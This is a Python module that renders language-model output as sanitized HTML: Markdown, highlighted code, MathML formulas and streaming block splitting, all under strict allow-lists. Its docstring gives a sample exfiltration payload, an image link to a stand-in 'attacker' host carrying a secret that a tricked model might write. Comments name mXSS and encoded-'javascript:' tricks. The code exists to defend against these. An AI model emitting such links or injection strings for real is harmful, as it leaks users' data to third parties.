"""Model text -> safe HTML. A pure function of text: no Django models, no I/O.

markdown-it-py parses CommonMark plus tables and strikethrough with raw HTML off; fenced
code is highlighted by Pygments (CSS classes only, no inline styles: the page's CSP
forbids them) under a header with the language and a copy button; images become plain
links (a model tricked into writing `![](https://attacker/?q=secret)` must not make the
browser fetch anything); and nh3 cleans the result with an explicit allow-list, whatever
the renderer produced.

Math: LaTeX between `$…$` or `\\(…\\)` (inline) and `$$…$$` or `\\[…\\]` (display) becomes
MathML on the server (latex2mathml), which browsers lay out natively: no script, no
inline style. Dollar signs follow the usual rules, so that prices stay prices: no space
after the opening `$` nor before the closing one, no digit right after the closing one.
A formula that does not parse, or is too long or too deep to be worth it, shows its
source as code. The cleaner lets through only the MathML elements and attributes the
converter makes (no href, no style, no colours, no annotation-xml or mglyph).

Streaming: `BlockSplitter` finds the places where the text so far can be cut into
finished blocks (a blank line outside a code fence, not inside a list), so a frame sends
each finished block once and re-renders only the block still growing. The cost of a frame
depends on the size of that block, never on the length of the answer.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from functools import lru_cache
from html import escape, unescape
from typing import Any
from xml.etree.ElementTree import tostring

import nh3
from latex2mathml.converter import convert_to_element
from markdown_it import MarkdownIt
from markdown_it.renderer import RendererHTML
from markdown_it.ruler import RuleOptionsType
from markdown_it.rules_block import StateBlock
from markdown_it.rules_inline import StateInline
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict
from mdit_py_plugins.dollarmath.index import math_block_dollar, math_inline_dollar
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexer import Lexer
from pygments.lexers import get_lexer_by_name
from pygments.token import STANDARD_TYPES
from pygments.util import ClassNotFound

_FORMATTER = HtmlFormatter(nowrap=True, classprefix="tok-")
_LANG = re.compile(r"[^a-zA-Z0-9_+#.-]")
_MAX_HIGHLIGHT = 100_000  # characters; past this a code block is shown plain

ALLOWED_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote",
    "pre", "code", "span", "em", "strong", "del", "s", "a", "table", "thead", "tbody",
    "tr", "th", "td", "div", "button",
}  # fmt: skip
# What latex2mathml makes, nothing more: no annotation-xml, mglyph, maction or semantics
# (the ways into HTML, and the mXSS tricks, go through those).
MATHML_TAGS = {
    "math", "mrow", "mi", "mn", "mo", "mtext", "mspace", "ms", "msup", "msub", "msubsup",
    "mfrac", "msqrt", "mroot", "mover", "munder", "munderover", "mtable", "mtr", "mtd",
    "mstyle", "menclose", "mpadded", "mphantom",
}  # fmt: skip
_MATHML_SIZES = {"width", "height", "depth", "lspace", "rspace", "voffset", "mathsize"}
MATHML_ATTRIBUTES = {
    "math": {"display", "alttext"},
    "mi": {"mathvariant"},
    "mn": {"mathvariant"},
    "mtext": {"mathvariant"},
    "mo": {
        "mathvariant", "stretchy", "fence", "separator", "form", "lspace", "rspace",
        "largeop", "movablelimits", "accent", "minsize", "maxsize", "symmetric",
    },
    "mstyle": {"displaystyle", "scriptlevel", "mathsize", "mathvariant"},
    "mfrac": {"linethickness"},
    "mover": {"accent"},
    "munder": {"accentunder"},
    "munderover": {"accent", "accentunder"},
    "mtable": {
        "columnalign", "rowalign", "columnspacing", "rowspacing", "columnlines", "rowlines",
        "displaystyle", "frame",
    },
    "mtr": {"columnalign", "rowalign"},
    "mtd": {"columnalign", "rowalign", "columnspan", "rowspan"},
    "mspace": {"width", "height", "depth", "linebreak"},
    "mpadded": {"width", "height", "depth", "lspace", "voffset"},
    "menclose": {"notation"},
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "ol": {"start"},
    "button": {"type", "aria-label"},
    **MATHML_ATTRIBUTES,
}
# No id, name, style, on*, hx-*, data-*, src, action: nothing that could collide with the
# page, run, fetch or be processed by htmx. Classes only from our own vocabulary.
_TOKEN_CLASSES = {f"tok-{name}" for name in STANDARD_TYPES.values() if name}
ALLOWED_CLASSES = {
    "span": _TOKEN_CLASSES | {"code-lang"},
    "div": {"code-block", "code-head", "math-display"},
    "button": {"copy-button"},
    "th": {"align-left", "align-center", "align-right"},
    "td": {"align-left", "align-center", "align-right"},
    "a": {"image-link"},
    "code": {"code", "math-source"},
    "pre": {"highlight", "math-pending"},
}
_ABSOLUTE_LINK = re.compile(r"^(?:https?://|mailto:)", re.I)
# A MathML length, small: "\\hspace{9999em}" must not push the page sideways.
_SMALL_LENGTH = re.compile(r"^[+-]?(?:\d{1,2}(?:\.\d*)?|\.\d+)(?:em|ex|mu|pt|px|%)?$")


def _attribute_filter(tag: str, attribute: str, value: str) -> str | None:
    # Only absolute web and mail links: a relative link in model text would point into
    # this very site, and odd encodings of "javascript:" are relative links too.
    if attribute == "href" and not _ABSOLUTE_LINK.match(value):
        return None
    if attribute in _MATHML_SIZES and tag in MATHML_TAGS and not _SMALL_LENGTH.match(value):
        return None
    return value


_CLEANER = nh3.Cleaner(
    attribute_filter=_attribute_filter,
    tags=ALLOWED_TAGS | MATHML_TAGS,
    clean_content_tags={"script", "style"},
    attributes=ALLOWED_ATTRIBUTES,
    allowed_classes=ALLOWED_CLASSES,
    url_schemes={"http", "https", "mailto"},
    link_rel="noopener noreferrer nofollow",
    set_tag_attribute_values={"a": {"target": "_blank"}},
    strip_comments=True,
)


@lru_cache(maxsize=256)
def _lexer(lang: str) -> Lexer | None:
    # Looking a lexer up by name scans Pygments' whole registry: do it once per language.
    try:
        return get_lexer_by_name(lang)
    except ClassNotFound:
        return None


def _fence(
    renderer: RendererHTML, tokens: list[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    token = tokens[idx]
    lang = _LANG.sub("", token.info.strip().split(" ")[0])[:30] if token.info else ""
    code = token.content
    body = escape(code)
    lexer = _lexer(lang.lower()) if lang and len(code) <= _MAX_HIGHLIGHT else None
    if lexer is not None:
        body = highlight(code, lexer, _FORMATTER)
    return _code_block(lang, body)


def _code_block(lang: str, body: str) -> str:
    """A code block's markup around `body`, which must already be safe HTML."""
    label = escape(lang or "text")
    return (
        '<div class="code-block"><div class="code-head">'
        f'<span class="code-lang">{label}</span>'
        '<button type="button" class="copy-button" aria-label="Copy code">Copy</button>'
        f'</div><pre class="highlight"><code class="code">{body}</code></pre></div>\n'
    )


def _image(
    renderer: RendererHTML, tokens: list[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    # Never an <img>: loading it would tell a third party what the reader is reading.
    token = tokens[idx]
    src = escape(str(token.attrGet("src") or ""))
    alt = escape(token.content or "image")
    return f'<a class="image-link" href="{src}">Image: {alt}</a>'


def _cell_align(state: Any) -> None:
    # Table alignment arrives as style="text-align:…"; the CSP forbids inline styles.
    for token in state.tokens:
        if token.type in ("th_open", "td_open"):
            style = token.attrGet("style") or ""
            if isinstance(style, str) and "text-align:" in style:
                token.attrs.pop("style", None)
                token.attrSet("class", "align-" + style.split(":", 1)[1].strip())


# --- math -------------------------------------------------------------------------------

# Past these a formula shows as code: latex2mathml is a recursive pure-Python parser, and
# formulas are rendered inside the frames of a streaming answer.
MAX_FORMULA = 2000  # characters
_MAX_FORMULA_DEPTH = 40  # groups, \left…\right and environments inside one another
_DEPTH_TOKEN = re.compile(r"\\\\|\\[{}]|[{}]|\\(?:left|right|begin|end)\b")
_CHARACTER_REFERENCE = re.compile(r"&#x([0-9a-fA-F]{1,6});")
_CLOSING = {"$": "$", "$$": "$$", "\\(": "\\)", "\\[": "\\]"}


def _too_deep(source: str) -> bool:
    depth = 0
    for match in _DEPTH_TOKEN.finditer(source):
        token = match.group()
        if token in ("{", "\\left", "\\begin"):
            depth += 1
            if depth > _MAX_FORMULA_DEPTH:
                return True
        elif token in ("}", "\\right", "\\end"):
            depth -= 1
    return False


def _reference(match: re.Match[str]) -> str:
    code = int(match.group(1), 16)
    return chr(code) if 0 < code <= 0x10FFFF and not 0xD800 <= code <= 0xDFFF else "\ufffd"


def mathml(source: str, *, display: bool) -> str | None:
    """The MathML of a LaTeX formula, or None when it is not one worth showing as such."""
    source = source.strip()
    if not source or len(source) > MAX_FORMULA or _too_deep(source):
        return None
    try:
        element = convert_to_element(source, display="block" if display else "inline")
    except Exception:
        # Deliberately broad: a third-party parser fed model text fails in many ways
        # (its own errors, IndexError, RecursionError…); each means "show the source".
        return None
    for node in element.iter():
        # latex2mathml writes characters as "&#x…;" in its text and then unescapes its
        # whole output, "<" of \text{<img …>} included: serialised here instead, escaped.
        if node.text:
            node.text = _CHARACTER_REFERENCE.sub(_reference, node.text)
        if node.tail:
            node.tail = _CHARACTER_REFERENCE.sub(_reference, node.tail)
    element.attrib.pop("xmlns", None)  # the HTML parser puts <math> in MathML's namespace
    element.set("alttext", source)  # the formula's words for plain_text() and search
    return tostring(element, encoding="unicode")


def _math_source_code(token: Token) -> str:
    close = _CLOSING.get(token.markup, token.markup)
    source = f"{token.markup}{token.content}{close}"
    return f'<code class="math-source">{escape(source, quote=False)}</code>'


def _math_inline(
    renderer: RendererHTML, tokens: list[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    token = tokens[idx]
    html = mathml(token.content, display=token.type == "math_inline_double")
    return html if html is not None else _math_source_code(token)


def _math_block(
    renderer: RendererHTML, tokens: list[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    token = tokens[idx]
    html = mathml(token.content, display=True)
    if html is None:
        return _code_block("latex", escape(token.content.strip("\n"), quote=False))
    # A block of its own, scrolled sideways when wider than the screen (chat.css).
    return f'<div class="math-display">{html}</div>\n'


def _math_inline_paren(state: StateInline, silent: bool) -> bool:
    """\\(…\\): before the backslash escape rule, which would read "\\(" as "("."""
    if not state.src.startswith("\\(", state.pos):
        return False
    start = state.pos + 2
    # Searched no further than a formula may be long: a paragraph full of lone "\\("
    # must not be scanned to its end from each of them.
    end = state.src.find("\\)", start, start + MAX_FORMULA + 2)
    if end < 0 or not state.src[start:end].strip():
        return False
    if not silent:
        token = state.push("math_inline", "math", 0)
        token.content = state.src[start:end]
        token.markup = "\\("
    state.pos = end + 2
    return True


def _math_block_bracket(state: StateBlock, start_line: int, end_line: int, silent: bool) -> bool:
    """\\[…\\] on lines of their own, as dollarmath reads $$…$$: ends at the first line
    that ends with "\\]"; a blank line first means it was not a formula, and so does a
    first line with "\\]" inside it ("\\[x\\] and y" is a paragraph)."""
    if state.sCount[start_line] - state.blkIndent >= 4:
        return False  # indented code
    begin = state.bMarks[start_line] + state.tShift[start_line]
    if not state.src.startswith("\\[", begin):
        return False
    first = state.src[begin + 2 : state.eMarks[start_line]]
    line = start_line
    if first.rstrip().endswith("\\]"):
        content = first.rstrip()[:-2]
    elif "\\]" in first:
        return False
    else:
        parts = [first]
        while True:
            line += 1
            if line >= end_line:
                return False
            text = state.src[state.bMarks[line] : state.eMarks[line]]
            if not text.strip():
                return False
            if text.rstrip().endswith("\\]"):
                parts.append(text.rstrip()[:-2])
                break
            parts.append(text)
        content = "\n".join(parts)
    if silent:
        return True
    state.line = line + 1
    token = state.push("math_block", "math", 0)
    token.block = True
    token.content = content
    token.markup = "\\["
    token.map = [start_line, state.line]
    return True


def _linear(rule: Any, opening: str) -> Any:
    """A display-math block rule that searches each stretch of lines for a closing line
    once, and that only looks when asked whether it would match (dollarmath's rule pushes
    its token even then). Without the first, a paragraph of lines such as "$$ x", none
    closed, costs its length squared: each line is tried as the start of a formula."""
    failed_key = f"math_failed_{opening}"

    def linear_rule(state: StateBlock, start_line: int, end_line: int, silent: bool) -> bool:
        failed = state.env.get(failed_key)
        if failed is not None and failed[0] < start_line < failed[1]:
            return False  # no line up to the blank one below closes a formula
        tokens, line = len(state.tokens), state.line
        matched = bool(rule(state, start_line, end_line, silent))
        if silent:
            del state.tokens[tokens:]
            state.line = line
        begin = state.bMarks[start_line] + state.tShift[start_line]
        if not matched and state.src.startswith(opening, begin):
            last = start_line + 1
            while last < end_line and not state.isEmpty(last):
                last += 1
            state.env[failed_key] = (start_line, last)
        return matched

    return linear_rule


def _display_math_line(state: StateBlock, start_line: int, end_line: int, silent: bool) -> bool:
    """A line opening display math ends the paragraph above it, as a fence's does, whether
    or not the formula closes: BlockSplitter, which cannot wait to know, cuts there too."""
    if not silent or state.sCount[start_line] - state.blkIndent >= 4:
        return False
    begin = state.bMarks[start_line] + state.tShift[start_line]
    return state.src.startswith(("$$", "\\["), begin)


def _make_parser() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
    md.enable(["table", "strikethrough"])
    md.add_render_rule("fence", _fence)
    md.add_render_rule("code_block", _fence)
    md.add_render_rule("image", _image)
    md.core.ruler.push("cell_align", _cell_align)
    # Math. "$5 and $10" stays text: no space inside the dollars, no digit after the
    # closing one (nor before the opening one); "$$…$$" inside a line is display math.
    md.inline.ruler.before(
        "escape",
        "math_inline",
        math_inline_dollar(allow_space=False, allow_digits=False, allow_double=True),
    )
    md.inline.ruler.before("escape", "math_inline_paren", _math_inline_paren)
    # Display math may follow a line of text directly ("where\n$$\n…\n$$"), as a fence may;
    # a blank line inside it is not allowed (nor in LaTeX): BlockSplitter cuts there too.
    interrupts: RuleOptionsType = {"alt": ["paragraph", "reference", "blockquote", "list"]}
    md.block.ruler.before("fence", "display_math_line", _display_math_line, interrupts)
    dollars = math_block_dollar(allow_labels=False, allow_blank_lines=False)
    md.block.ruler.before("fence", "math_block", _linear(dollars, "$$"), interrupts)
    brackets = _linear(_math_block_bracket, "\\[")
    md.block.ruler.before("fence", "math_block_bracket", brackets, interrupts)
    md.add_render_rule("math_inline", _math_inline)
    md.add_render_rule("math_inline_double", _math_inline)
    md.add_render_rule("math_block", _math_block)
    return md


_MD = _make_parser()


def sanitize(html: str) -> str:
    return _CLEANER.clean(html)


def render(text: str) -> str:
    """Safe HTML for a piece of model (or imported) text."""
    if not text:
        return ""
    return sanitize(_MD.render(text))


@lru_cache(maxsize=4096)
def render_markdown(text: str) -> str:
    """render(), remembered: pages show the same finished answers again and again."""
    return render(text)


# Text that CommonMark (+ tables, strikethrough; raw HTML, linkify and typographer off)
# can only read as one plain paragraph: no inline syntax, no hard break, no blank line,
# and no line that could open or underline a block.
_NOT_PLAIN = re.compile(r"[\\`*_\[\]<>&~|$]| \n|\n[ \t]*\n")
_BLOCK_LINE = re.compile(r"^ {0,3}[ \t#>+*=\d`~-]", re.MULTILINE)
_FENCE_START = re.compile(r"^ {0,3}(`{3,}|~{3,})([^\n`]*)\n")


def render_tail(text: str) -> str:
    """render() for the block still growing at the end of a streaming answer: the same
    HTML for a plain paragraph and the code of a fence still open, without the parser
    (most frames of most answers); any other block goes through render(). A finished
    block is always rendered whole by render(), highlighting included."""
    if not text.strip():
        return ""
    if not _NOT_PLAIN.search(text) and not _BLOCK_LINE.search(text):
        lines = "\n".join(line.strip() for line in text.strip().split("\n"))
        return f"<p>{escape(lines, quote=False)}</p>\n"
    fence = _FENCE_START.match(text)
    if fence is not None:
        code = text[fence.end() :]
        marker = fence.group(1)
        closing_line = rf"^ {{0,3}}{re.escape(marker[0])}{{{len(marker)},}}[ \t]*$"
        closing = re.search(closing_line, code, re.MULTILINE)
        if closing is None:
            # Highlighted once the fence closes: Pygments on every frame of a long block
            # would cost more than all the rest of the frame.
            lang = _LANG.sub("", fence.group(2).strip().split(" ")[0])[:30]
            return _code_block(lang, escape(code, quote=False))
    return render(text)


_TAG = re.compile(r"<[^>]*>")
_BLOCK_TAG = re.compile(r"</?(?:p|li|h[1-6]|tr|td|th|div|pre|br|hr|ul|ol|table|blockquote)\b[^>]*>")
# The cleaner writes "<" and ">" in attribute values as entities: "[^>]" cannot overrun.
_MATH = re.compile(r'<math\b[^>]*?\balttext="([^"]*)"[^>]*>.*?</math>', re.DOTALL)


def plain_text(html: str) -> str:
    """The words of HTML this module rendered (well formed, cleaned), for a screen
    reader's announcement: its tags dropped, its entities read (to be escaped where it
    is put: announce_html). A formula reads as its LaTeX source: "x^2", not MathML's
    "x2"."""
    html = _MATH.sub(lambda m: f" {m.group(1)} ", html)
    return " ".join(unescape(_TAG.sub("", _BLOCK_TAG.sub(" ", html))).split())


# --- streaming ---------------------------------------------------------------------------

_FENCE_OPEN = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_LIST_ITEM = re.compile(r"^ {0,3}(?:[-+*]|\d{1,9}[.)])(?:\s|$)")


@dataclass
class BlockSplitter:
    """Cuts an answer growing at its end into finished blocks and the block still growing.

    Fed only the new text, it keeps just the growing block and scans each complete line
    once, so its cost follows the size of that block, not of the answer. A blank line
    outside a code fence ends a block unless what follows continues it (an indented line,
    or another item of the same list); a closing fence ends a block at once, and so does
    the line that closes a display formula ("$$", "\\]"). Inside a display formula no line
    starts a block of its own; a blank line ends the formula's chance (as it does in the
    parser, and in LaTeX), and is a blank line like any other.
    """

    window: str = ""  # the text after the last finished block
    _scanned: int = 0
    _fence: str = ""
    _math: str = ""  # the closing delimiter of a display formula still open ("$$", "\\]")
    _block_is_list: bool = False
    _block_is_heading: bool = False
    _block_is_quote: bool = False
    _block_started: bool = False
    _pending: int = -1  # a blank line's end, confirmed or dropped by the next line
    _boundary: int = 0

    def feed(self, delta: str) -> tuple[str, str]:
        """(text finished by this delta, the growing block's whole text)."""
        window = self.window = self.window + delta
        while True:
            end = window.find("\n", self._scanned)
            if end == -1:
                break
            self._line(window[self._scanned : end], end + 1)
            self._scanned = end + 1
        self._partial_line(window[self._scanned :])
        cut = self._boundary
        if not cut:
            return "", window
        finished, self.window = window[:cut], window[cut:]
        self._scanned -= cut
        if self._pending >= 0:
            self._pending -= cut
        self._boundary = 0
        return finished, self.window

    def _line(self, line: str, end: int) -> None:
        if self._fence:
            stripped = line.strip()
            if stripped.startswith(self._fence) and set(stripped) == {self._fence[0]}:
                self._fence = ""
                self._close_block(end)
            return
        if self._math:
            if not line.strip():
                self._math = ""  # not a formula after all: a blank line, handled below
            else:
                if line.rstrip().endswith(self._math):
                    self._math = ""
                    self._formula_closed(end)
                return
        if not line.strip():
            if self._block_started:
                self._pending = end
            else:
                # Between blocks (after a closing fence): the blank line goes with the
                # finished text, so that the growing block starts with its own first line.
                self._boundary = end
            return
        if self._pending >= 0:
            continues = line.startswith(("  ", "\t")) or (
                self._block_is_list and bool(_LIST_ITEM.match(line))
            )
            if not continues:
                self._close_block(self._pending)
            self._pending = -1
        elif self._block_started and self._begins_own_block(line):
            # No blank line before it, but a block of its own: the one before is finished
            # ("Here is the code:" then a fence, "Options:" then a list, a heading).
            self._close_block(end - len(line) - 1)
        if not self._block_started:
            self._block_started = True
            self._block_is_list = bool(_LIST_ITEM.match(line))
            self._block_is_heading = bool(_ATX.match(line))
            self._block_is_quote = line.lstrip(" ").startswith(">")
        match = _FENCE_OPEN.match(line)
        if match:
            self._fence = match.group(1)
            return
        math = _MATH_OPEN.match(line)
        if math:
            close = _CLOSING[math.group(1)]
            rest = line[math.end() :].rstrip()
            if rest.endswith(close):
                self._formula_closed(end)  # a formula on one line
            elif close not in rest:  # "$$a$$ and b" is a paragraph
                self._math = close

    def _formula_closed(self, end: int) -> None:
        # Inside a list item or a quote the formula is part of that block.
        if not (self._block_is_list or self._block_is_quote):
            self._close_block(end)

    def _partial_line(self, line: str) -> None:
        """The line still arriving, when its first characters already tell that it starts
        a new block: the block before is finished now, not when the line ends (else the
        growing block would show "- item" as part of the paragraph above it, or a whole
        paragraph would be re-rendered with the heading before it in every frame)."""
        if self._fence or self._math or not self._block_started or not line.strip():
            return
        if self._pending >= 0:
            stripped = line.lstrip(" ")
            indent = len(line) - len(stripped)
            if self._block_is_list:
                if indent >= 2 or line[0] == "\t" or stripped[0] in "-+*0123456789":
                    return  # may continue the list: wait for the whole line
            elif indent >= 4 or line[0] == "\t":
                return  # indented: wait for the whole line
            # After a blank line, anything else starts a block of its own.
            self._close_block(self._pending)
        elif (len(line) >= 3 or _MATH_OPEN.match(line)) and self._begins_own_block(line):
            self._close_block(len(self.window) - len(line))

    def _begins_own_block(self, line: str) -> bool:
        if self._block_is_heading:
            return True  # a heading is one line
        if self._block_is_list:
            return bool(_ENDS_LIST.match(line))
        if self._block_is_quote and line.lstrip(" ").startswith(">"):
            return False
        return bool(_INTERRUPTS_PARAGRAPH.match(line))

    def _close_block(self, at: int) -> None:
        self._boundary = at
        self._block_started = False
        self._block_is_list = False
        self._block_is_heading = False
        self._pending = -1


# --- the growing block, in frames that do not grow with it -----------------------------

# Lines that begin a block of their own even right under a paragraph's line (CommonMark:
# a bullet or "1." item with text, an ATX heading, a block quote, a fence).
_INTERRUPTS_PARAGRAPH = re.compile(
    r"^ {0,3}(?:(?:[-+*]|1[.)])[ \t]+\S|#{1,6}(?:[ \t]|$)|>|`{3,}|~{3,}|\$\$|\\\[)"
)
_ENDS_LIST = re.compile(r"^(?:#{1,6}(?:[ \t]|$)|`{3,}|~{3,}|>|\$\$|\\\[)")  # at column 0
_MATH_OPEN = re.compile(r"^ {0,3}(\$\$|\\\[)")
_ATX = re.compile(r"^ {0,3}#{1,6}(?:[ \t]|$)")
_TABLE_DELIMITER = re.compile(r"^ {0,3}\|?[ \t]*:?-+:?[ \t]*(?:\|[ \t]*:?-+:?[ \t]*)*\|?[ \t]*$")
_ITEM_START = re.compile(r"^( {0,3})(?:[-+*]|\d{1,9}[.)])(?:[ \t]|$)", re.MULTILINE)
_OUTER_LIST = re.compile(r"^\s*(<(?:ul|ol)\b[^>]*>)\n?(.*)</(?:ul|ol)>\s*$", re.DOTALL)
_SIMPLE_ITEM = re.compile(r"^ {0,3}(?:[-+*]|\d{1,9}[.)])[ \t]+([^\n]*)\n?$")
_BLANK_LINE = re.compile(r"\n[ \t]*\n")
_TBODY = re.compile(r"<tbody>\n?(.*)</tbody>", re.DOTALL)
_PARAGRAPH_START = re.compile(r"^ {0,3}[^\s#>+*=_|`~\d-]")

# A settled piece of a paragraph must end where nothing inline is open; an answer that
# leaves something open for this long (a lone "*" used as a sign) is settled anyway, its
# open markers closed, so that frames stay small.
_FORCE_SETTLE = 1500


# Characters without which CommonMark inline parsing (raw HTML, linkify and typographer
# off) gives back the text itself, escaped: no parser and no cleaner for most pieces.
_INLINE_SYNTAX = re.compile(r"[\\`*_\[\]<>&~!$]|  \n")


def _inline(text: str) -> str:
    """A piece of a paragraph, inline markup only (no line of it can start a block)."""
    if not text:
        return ""
    if not _INLINE_SYNTAX.search(text):
        return escape(text, quote=False)
    return sanitize(_MD.renderInline(text))


@dataclass
class _InlineScan:
    """Which inline constructs are open at the end of a piece of paragraph text (code
    spans, emphasis, link text and destination, autolinks, formulas), and the last place
    after a space where none was. Fed each character once, or twice where a "$" turned
    out not to open a formula (dollarmath's rule: its first possible closing "$" decides).
    """

    code: int = 0  # the backtick run that opened a code span
    stack: list[str] = field(default_factory=list)  # open emphasis runs
    bracket_at: list[int] = field(default_factory=list)  # open "[", where
    paren: int = 0  # depth inside a link destination "](…)"
    paren_at: int = -1
    angle_at: int = -1  # an open "<" that may be an autolink
    math: str = ""  # the closing delimiter of a formula that may be open: "$", "$$", "\\)"
    math_at: int = -1  # where it opened
    balanced: int = 0  # a position (after whitespace) where nothing was open
    scanned: int = 0

    def open(self) -> bool:
        return bool(
            self.code
            or self.stack
            or self.bracket_at
            or self.paren
            or self.angle_at >= 0
            or self.math
        )

    def feed(self, text: str, end: int) -> None:
        """Scan text[self.scanned:end]; `end` must leave the next character known."""
        i = self.scanned
        while i < end:
            c = text[i]
            if self.math:
                i = self._in_math(text, i)
                continue
            if self.code:
                if c == "`":
                    run = _run(text, i, "`")
                    if run == self.code:
                        self.code = 0
                    i += run
                    continue
                i += 1
                continue
            if c == "\\":
                if text[i + 1 : i + 2] == "(":
                    self.math, self.math_at = "\\)", i
                i += 2
                continue
            if c == "$" and not self.paren and self.angle_at < 0:
                after = text[i + 1] if i + 1 < len(text) else " "
                if not after.isspace() and not (i and text[i - 1].isdigit()):
                    self.math, self.math_at = ("$$", i) if after == "$" else ("$", i)
                    i += len(self.math)
                    continue
            if c == "`":
                run = _run(text, i, "`")
                self.code = run
                i += run
                continue
            if self.paren:
                if c == "(":
                    self.paren += 1
                elif c == ")":
                    self.paren -= 1
                i += 1
                continue
            if self.angle_at >= 0:
                if c == ">" or c.isspace():
                    self.angle_at = -1
                i += 1
                continue
            if c in "*_~":
                run = _run(text, i, c)
                before = text[i - 1] if i else " "
                after = text[i + run] if i + run < len(text) else " "
                if c == "~" and run != 2:
                    i += run
                    continue
                if c == "_" and before.isalnum() and after.isalnum():
                    i += run  # snake_case: not emphasis
                    continue
                token = text[i : i + min(run, 3)]
                if not before.isspace() and self.stack and self.stack[-1][0] == c:
                    self.stack.pop()
                elif not after.isspace():
                    self.stack.append(token)
                i += run
                continue
            if c == "[":
                self.bracket_at.append(i)
            elif c == "]" and self.bracket_at:
                start = self.bracket_at.pop()
                if i + 1 < len(text) and text[i + 1] == "(":
                    self.paren, self.paren_at = 1, start
                    i += 2
                    continue
            elif c == "<" and i + 1 < len(text) and text[i + 1].isalpha():
                self.angle_at = i
            elif c.isspace() and not self.open():
                self.balanced = i + 1
            i += 1
        self.scanned = max(self.scanned, i)

    def _in_math(self, text: str, i: int) -> int:
        """One step inside a formula that may be open: the next position to scan."""
        c = text[i]
        if self.math == "\\)":
            if c == "\\" and text[i + 1 : i + 2] == ")":
                self.math = ""
                return i + 2
            if i - self.math_at > MAX_FORMULA + 2:
                # The parser looks no further for "\\)": "\\(" was a "(" after all.
                return self._not_math(self.math_at + 2)
            return i + (2 if c == "\\" else 1)
        if c == "\\":
            return i + 2
        if c != "$":
            return i + 1
        after = text[i + 1] if i + 1 < len(text) else " "
        if self.math == "$$":
            if after == "$":
                self.math = ""
                return i + 2
            return i + 1
        if not text[i - 1].isspace() and not after.isdigit():
            self.math = ""
            return i + 1
        # "$5 and $10": the first "$" after the opening one decides, and it does not close
        # a formula; everything after the opening "$" is read again as ordinary text.
        return self._not_math(self.math_at + 1)

    def _not_math(self, resume: int) -> int:
        self.math, self.math_at = "", -1
        return resume


def _run(text: str, i: int, c: str) -> int:
    j = i
    while j < len(text) and text[j] == c:
        j += 1
    return j - i


def _closed_inline(text: str) -> str:
    """The unfinished end of a paragraph as it should look now: emphasis and code spans
    still open are closed, an unfinished link shows its text, a trailing marker waits."""
    text = text.rstrip("*_~`\\[]($")
    if not text:
        return ""
    scan = _InlineScan()
    scan.feed(text, len(text))
    if scan.paren:
        start = scan.paren_at
        close = text.find("](", start)
        text = text[:start] + text[start + 1 : close]  # the link's text, for now
        scan = _InlineScan()
        scan.feed(text, len(text))
    for at in reversed(scan.bracket_at):
        text = text[:at] + text[at + 1 :]
    if scan.bracket_at:
        scan = _InlineScan()
        scan.feed(text, len(text))
    if scan.code:
        return text + "`" * scan.code
    if scan.math:
        # A formula not closed yet shows as the text it is so far, no markup read in it.
        at = scan.math_at
        text = text[:at] + _PUNCTUATION.sub(r"\\\g<0>", text[at:])
    return text.rstrip() + "".join(reversed(scan.stack)) + text[len(text.rstrip()) :]


_CLOSING_ARRIVING = re.compile(r"(?:\$+|\\\]?)[ \t]*$")
_PUNCTUATION = re.compile(r"[!-/:-@\[-`{-~]")  # ASCII punctuation: what "\\" escapes


def _closed_last_line(text: str) -> str:
    """A block whose last line is unfinished, that line's open inline markup closed."""
    start = text.rfind("\n") + 1
    return text[:start] + _closed_inline(text[start:])


def _kind_of(text: str) -> str:
    """What kind of block a growing block's text is: "pending" while its first line
    cannot tell yet."""
    first_end = text.find("\n")
    first = text if first_end < 0 else text[:first_end]
    if not first.strip():
        return "other" if text.strip() else "pending"
    if _FENCE_START.match(text):
        return "code"
    if _FENCE_OPEN.match(first):
        return "pending"  # the fence's first line is not complete yet
    math = _MATH_OPEN.match(first)
    if math:
        # A display formula still open shows its source, growing; on one line, or once
        # closed, it is re-rendered whole (BlockSplitter finishes it at its closing line).
        close = _CLOSING[math.group(1)]
        return "other" if close in first[math.end() :] else "math"
    if first_end < 0 and first.strip() in ("$", "\\"):
        return "pending"  # "$$" or "\\[" to come, or a paragraph
    if _ITEM_START.match(first):
        return "list"
    if "|" in first:
        if first_end < 0:
            # "| name" is a table's header to come; "Use a | b" a paragraph (a table
            # after all if a delimiter row follows: GrowingBlock checks).
            return "pending" if first.lstrip().startswith("|") else "paragraph"
        second_end = text.find("\n", first_end + 1)
        if second_end < 0:
            return "pending"
        if _TABLE_DELIMITER.match(text[first_end + 1 : second_end]):
            return "table"
        return "paragraph"
    if _PARAGRAPH_START.match(first) or (
        first.lstrip()[:1].isdigit() and first_end < 0 and not re.match(r"^ {0,3}\d{1,9}$", first)
    ):
        return "paragraph"
    if first_end < 0 and re.match(r"^ {0,3}[\d#>=_*+-]{0,9}$", first):
        return "pending"  # "1", "#", "-": a list, a heading or a rule to come
    return "other"


@dataclass
class GrowingBlock:
    """The block still growing at the end of a streaming answer, sent so that a frame's
    size follows the new text, not the block: what can no longer change (a paragraph's
    text up to where nothing inline is open, a list's finished items, a table's finished
    rows, a code block's finished lines) is sent once, inserted before a live element
    that holds the unsettled end; each frame inserts a new live element and deletes the
    old one (fresh ids: table rows cannot be swapped any other way through htmx).

    Headings, quotes and other blocks are small or rare: they are re-rendered whole.
    Whatever is shown meanwhile, the final frame renders the answer as a whole.
    """

    key: str  # the live elements' ids are f"{key}-{n}"
    text: str = ""
    kind: str = "pending"
    _settled: int = 0
    _parts: list[str] = field(default_factory=list)  # HTML of text[:_settled]
    _head: str = ""  # a table's header lines; a code block's language
    _open_tag: str = ""  # a list's <ul> or <ol start=…>
    _scan: _InlineScan = field(default_factory=_InlineScan)
    _count: int = 0
    _checked_table: bool = False
    _first_line_done: bool = False

    @property
    def live_id(self) -> str:
        return f"{self.key}-{self._count}"

    def restart(self, text: str) -> str:
        """A new block: the whole content for the answer's tail element."""
        self._count += 1
